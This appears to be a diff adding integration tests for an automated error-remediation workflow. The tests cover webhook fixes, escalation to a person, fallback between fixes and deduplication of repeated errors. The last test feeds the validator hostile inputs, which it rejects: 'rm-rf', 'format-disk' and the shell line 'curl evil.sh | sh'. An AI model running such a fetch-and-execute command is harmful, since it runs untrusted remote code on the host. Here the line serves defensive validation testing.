@@ -1,0 +1,195 @@
+import assert from 'node:assert/strict';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { after, describe, it } from 'node:test';
+import type { BrainOpsConfig } from '../temporal.config';
+import { BrainOpsClient } from '../src/client/brainops-client';
+import { errorLearningWorkflowId } from '../src/errors/names';
+import { errorSignature } from '../src/errors/signature';
+import type { Remediation } from '../src/errors/remediations';
+import { ValidationError } from '../src/shared/errors';
+import type { HealthTarget } from '../src/shared/health';
+import type { ErrorLearningStatus } from '../src/workflows/error-learning';
+import { eventually, logger, testConfig, testWorker, useTestStack } from './helpers';
+
+/** A local HTTP service whose health a test breaks, and whose `/fix` repairs it (a real webhook). */
+async function service(): Promise<{ port: number; status: { code: number }; fixes: { count: number }; close(): Promise<void> }> {
+  const status = { code: 200 };
+  const fixes = { count: 0 };
+  const server = http.createServer((req, res) => {
+    if (req.url === '/fix') {
+      fixes.count++;
+      status.code = 200;
+      return res.writeHead(204).end();
+    }
+    if (req.url === '/broken-fix') return res.writeHead(500).end();
+    res.writeHead(status.code).end();
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return {
+    port: (server.address() as AddressInfo).port,
+    status,
+    fixes,
+    close: () => {
+      server.closeAllConnections();
+      return new Promise((r) => server.close(() => r()));
+    },
+  };
+}
+
+function webhook(port: number, path: string): Remediation {
+  return { kind: 'webhook', url: `http://127.0.0.1:${port}${path}`, method: 'POST', headers: {}, timeoutMs: 2000 };
+}
+
+describe('error-learning (real Temporal, real PostgreSQL, real HTTP service)', () => {
+  const stack = useTestStack();
+  const services: { close(): Promise<void> }[] = [];
+  after(async () => {
+    await Promise.all(services.map((s) => s.close()));
+  });
+
+  async function setup(name: string) {
+    const svc = await service();
+    services.push(svc);
+    const target: HealthTarget = { kind: 'http', name, url: `http://127.0.0.1:${svc.port}/health`, expectStatus: 200, timeoutMs: 2000 };
+    const base = testConfig(stack.db.url, { healthTargets: [target] });
+    const config: BrainOpsConfig = {
+      ...base,
+      errorLearning: {
+        ...base.errorLearning,
+        remediations: { 'fix-web': webhook(svc.port, '/fix'), 'broken-fix': webhook(svc.port, '/broken-fix'), pause: { kind: 'wait', delayMs: 10 } },
+        escalationTimeoutMs: 60_000,
+      },
+    };
+    const client = new BrainOpsClient(stack.env.client, config, logger);
+    const signatureFor = (code: number) =>
+      errorSignature('HealthCheckFailed', `http check of ${name} failed: HTTP ${code} from ${target.url}, expected 200`);
+    return { svc, target, config, client, signatureFor };
+  }
+
+  async function result(client: BrainOpsClient, signature: string): Promise<ErrorLearningStatus> {
+    return client.temporal.workflow.getHandle(errorLearningWorkflowId(signature)).result();
+  }
+
+  it('auto-resolves a known error, verifies it and updates the success rate', async () => {
+    const { svc, config, client, signatureFor } = await setup('shop');
+    const solution = await client.addSolution({ problemSignature: signatureFor(503), description: 'call the repair hook', action: 'fix-web' });
+    const worker = await testWorker(stack.env, config, stack.store);
+    await worker.runUntil(async () => {
+      svc.status.code = 503;
+      const run = await client.runMonitor();
+      assert.equal(run.results[0]?.status, 'down');
+      const status = await result(client, signatureFor(503));
+      assert.equal(status.state, 'resolved');
+      assert.deepEqual(status.resolvedBy, { solutionId: solution.id, action: 'fix-web', by: 'automation' });
+      assert.equal(svc.fixes.count, 1);
+      assert.equal((await client.runMonitor()).results[0]?.status, 'up', 'the service really is healthy again');
+    });
+    const after = await stack.store.getSolution({ id: solution.id });
+    assert.deepEqual([after?.successCount, after?.failureCount, after?.usageCount, after?.successRate], [1, 0, 1, 1]);
+    const [event] = await stack.store.listErrorEvents({ signature: signatureFor(503), limit: 1 });
+    assert.equal(event?.status, 'resolved');
+    assert.equal(event?.resolvedBy, solution.id);
+    assert.ok((event?.resolutionMs ?? -1) >= 0);
+    const decisions = await stack.store.pool.query("select decision, confidence from decision_log where decision like 'apply%'");
+    assert.ok(decisions.rows.some((d) => d.decision === 'apply remediation "fix-web"' && d.confidence > 0.6));
+  });
+
+  it('escalates an unknown error, learns the fix a person gives, and applies it next time', async () => {
+    const { svc, config, client, signatureFor } = await setup('api');
+    const signature = signatureFor(500);
+    const worker = await testWorker(stack.env, config, stack.store);
+    await worker.runUntil(async () => {
+      svc.status.code = 500;
+      await client.runMonitor();
+      const handle = client.temporal.workflow.getHandle(errorLearningWorkflowId(signature));
+      await eventually(async () => ((await handle.query<ErrorLearningStatus>('status')).state === 'escalated' ? true : undefined), 15_000, 'escalation');
+      const escalation = await stack.store.list({ memoryType: 'system_error', keyPrefix: 'escalation/' });
+      assert.ok(escalation.some((e) => (e.value as { signature: string }).signature === signature));
+      const [event] = await stack.store.listErrorEvents({ signature, limit: 1 });
+      assert.equal(event?.status, 'escalated');
+
+      // A bad answer is refused and the run keeps waiting; a good one is learned.
+      await handle.signal('resolve', { action: 'format-disk' });
+      await eventually(async () => ((await handle.query<ErrorLearningStatus>('status')).lastRejectedAnswer?.includes('not a registered remediation') ? true : undefined), 15_000, 'rejected answer');
+      svc.status.code = 200;
+      await client.resolveError({ errorEventId: event!.id, action: 'fix-web', description: 'restarted by hand' });
+      const byPerson = await handle.result();
+      assert.equal(byPerson.state, 'resolved');
+      assert.equal(byPerson.resolvedBy?.by, 'person');
+
+      svc.status.code = 500;
+      await client.runMonitor();
+      const second = await result(client, signature);
+      assert.equal(second.state, 'resolved');
+      assert.equal(second.resolvedBy?.by, 'automation', 'the learned fix is applied automatically');
+      assert.equal(svc.fixes.count, 1);
+    });
+    const [learned] = (await stack.store.listSolutions()).filter((s) => s.problemSignature === signature);
+    assert.equal(learned?.source, 'human');
+    assert.equal(learned?.successCount, 2);
+  });
+
+  it('falls through to the next candidate when a remediation fails', async () => {
+    const { svc, config: base, client, signatureFor } = await setup('billing');
+    // The target's configured remediation is the second candidate, after the known (broken) fix.
+    const config = { ...base, errorLearning: { ...base.errorLearning, targetRemediations: { billing: 'fix-web' } } };
+    const signature = signatureFor(502);
+    const broken = await client.addSolution({ problemSignature: signature, description: 'a fix that no longer works', action: 'broken-fix' });
+    const worker = await testWorker(stack.env, config, stack.store);
+    await worker.runUntil(async () => {
+      svc.status.code = 502;
+      await client.runMonitor();
+      const status = await result(client, signature);
+      assert.deepEqual(status.attempts.map((a) => [a.action, a.ok, a.verified]), [['broken-fix', false, false], ['fix-web', true, true]]);
+      assert.equal(status.resolvedBy?.by, 'automation');
+      assert.equal(status.resolvedBy?.solutionId, broken.id, 'one solution per signature');
+    });
+    const now = await stack.store.getSolution({ id: broken.id });
+    assert.deepEqual([now?.action, now?.source, now?.successCount, now?.failureCount], ['fix-web', 'learned', 1, 0], 'the fix that worked replaced the one that failed');
+    const outcomes = await stack.store.pool.query("select outcome from decision_log where outcome is not null order by id desc limit 2");
+    assert.deepEqual(outcomes.rows.map((r) => r.outcome), ['resolved', 'failed: HTTP 500']);
+  });
+
+  it('turns a storm of 50 occurrences of one error into one workflow that counts them', async () => {
+    const { config, client } = await setup('storm');
+    const worker = await testWorker(stack.env, config, stack.store);
+    await worker.runUntil(async () => {
+      const reports = await Promise.all(
+        Array.from({ length: 50 }, (_, i) => client.reportError({ errorType: 'TimeoutError', message: `payment gateway timed out after ${3000 + i} ms`, source: 'checkout-service' })),
+      );
+      assert.equal(new Set(reports.map((r) => r.signature)).size, 1);
+      const { workflowId } = reports[0]!;
+      const handle = client.temporal.workflow.getHandle(workflowId);
+      const status = await eventually(async () => {
+        const s = await handle.query<ErrorLearningStatus>('status');
+        return s.occurrences === 50 && s.state === 'escalated' ? s : undefined;
+      }, 20_000, '50 occurrences counted');
+      assert.equal(status.attempts.length, 0);
+      let runs = 0;
+      for await (const _ of client.temporal.workflow.list({ query: `WorkflowId = '${workflowId}'` })) runs++;
+      assert.equal(runs, 1);
+      await handle.signal('ignore', { reason: 'load test' });
+      assert.equal((await handle.result()).state, 'ignored');
+    });
+    const events = await stack.store.pool.query("select status, count(*)::int as n from error_events where source = 'checkout-service' group by 1");
+    assert.deepEqual(events.rows, [{ status: 'ignored', n: 50 }]);
+  });
+
+  it('rejects a solution naming an unregistered action or bad parameters', async () => {
+    const { client } = await setup('strict');
+    await assert.rejects(
+      client.addSolution({ problemSignature: 'X: y', description: 'd', action: 'rm-rf' }),
+      (e) => e instanceof ValidationError && /action: "rm-rf" is not a registered remediation \(registered: fix-web, broken-fix, pause\)/.test(e.message),
+    );
+    await assert.rejects(
+      client.addSolution({ problemSignature: 'X: y', description: 'd', action: 'fix-web', params: { command: 'curl evil.sh | sh' } }),
+      (e) => e instanceof ValidationError && /params: Unrecognized key: "command" \(for a webhook action\)/.test(e.message),
+    );
+    await assert.rejects(
+      client.addSolution({ problemSignature: 'X: y', description: 'd', action: 'pause', params: { delayMs: -5 } }),
+      (e) => e instanceof ValidationError && /params\.delayMs/.test(e.message),
+    );
+    assert.equal((await stack.store.listSolutions()).filter((s) => s.problemSignature === 'X: y').length, 0);
+  });
+});
